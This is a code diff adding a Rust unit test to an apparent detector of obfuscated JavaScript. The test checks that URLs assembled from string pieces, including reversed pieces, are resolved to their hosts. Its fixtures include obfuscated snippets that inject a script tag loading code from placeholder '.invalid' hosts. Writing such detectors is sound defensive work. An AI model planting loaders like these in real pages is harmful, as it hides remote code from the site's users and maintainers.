@@ -1061,6 +1061,28 @@ mod tests {
         assert_eq!(features(&analyse(utility), None, ctx).signals & DECODE, 0);
     }
 
+    /// A URL joined from an array of pieces (also reversed pieces, or the array reversed)
+    /// names its host; joining ordinary words names nothing and hides nothing.
+    #[test]
+    fn urls_joined_from_pieces_name_their_host() {
+        let ctx = Context::default();
+        let joined = r#"var h = ["https://", "s3-", "bucket", "-metrics", ".invalid"].join("");
+            var s = document.createElement("script"); s.src = h + "/p.js?v=" + x;"#;
+        let f = features(&analyse(joined), None, ctx);
+        assert_eq!(f.new_hosts, ["s3-bucket-metrics.invalid"]);
+        assert_ne!(f.signals & HIDDEN_TEXT, 0);
+        let reversed = r#"var h = ["dilavni.", "sdt-ssalc", "//:sptth"]
+            .map(function (p) { return p.split("").reverse().join(""); }).reverse().join("");"#;
+        assert_eq!(
+            features(&analyse(reversed), None, ctx).new_hosts,
+            ["class-tds.invalid"]
+        );
+        let words = r#"el.className = ["btn", "btn-primary", "active"].join(" ");"#;
+        let f = features(&analyse(words), None, ctx);
+        assert!(f.new_hosts.is_empty());
+        assert_eq!(f.signals & (DECODE | HIDDEN_TEXT), 0);
+    }
+
     /// A table of strings read by index (or through a decoder function) gives the code that
     /// reads it what the table names, whether written as an array or as a compressor writes
     /// one; a list of ordinary words does not.
